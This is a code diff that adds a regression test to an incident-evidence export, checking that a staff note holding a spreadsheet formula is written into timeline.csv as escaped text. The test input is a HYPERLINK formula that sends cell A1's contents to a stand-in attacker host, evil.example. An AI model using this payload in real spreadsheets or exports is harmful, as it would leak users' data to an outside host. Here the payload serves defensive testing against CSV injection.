@@ -10,6 +10,8 @@ import { NotFoundError } from '../errors';
 import { insertEmail, insertIncident, insertMessage, seedConversation } from '../../test/support/report-factories';
 import { buildEvidenceZip } from './evidence-zip';
 import { getIncidentEvidence } from './get-incident-evidence';
+import { addIncidentUpdate } from '../incidents/add-incident-update';
+import { parse } from 'csv-parse/sync';
 
 const t = (iso: string) => new Date(`${iso}Z`);
 const NOW = t('2026-03-01T15:00');
@@ -121,5 +123,18 @@ describe('incident evidence', () => {
     expect(run.steps).toHaveLength(2);
     expect(entries.get(`${root}/summary.txt`)!.toString()).toBe(`${evidence.summary}\n`);
     expect(entries.get(`${root}/timeline.csv`)!.toString().split('\r\n')[0]).toBe('time_utc,kind,author,message');
+  });
+
+  it('writes a staff note holding a spreadsheet formula into timeline.csv as text, not a live formula (OWASP CSV injection)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await addIncidentUpdate({ ctx: { db } as never, input: { incidentId, kind: 'NOTE', message: formula } });
+    const evidence = await getIncidentEvidence({ ctx: { db, vendor: 'sandbox' }, input: { incidentId }, now: NOW });
+    const zip = buildEvidenceZip({ evidence, artifactsDir, pdf: Buffer.from('%PDF-1.7 test'), log: pino({ level: 'silent' }) });
+    const chunks: Buffer[] = [];
+    for await (const chunk of zip) chunks.push(chunk as Buffer);
+    const timeline = unzip(Buffer.concat(chunks)).get(`incident-${incidentId.slice(0, 8)}/timeline.csv`)!.toString();
+    const messages = (parse(timeline, { columns: true }) as { message: string }[]).map((row) => row.message);
+    expect(messages).toContain(`'${formula}`);
+    expect(messages.some((m) => /^[=+\-@\t\r]/.test(m))).toBe(false);
   });
 });
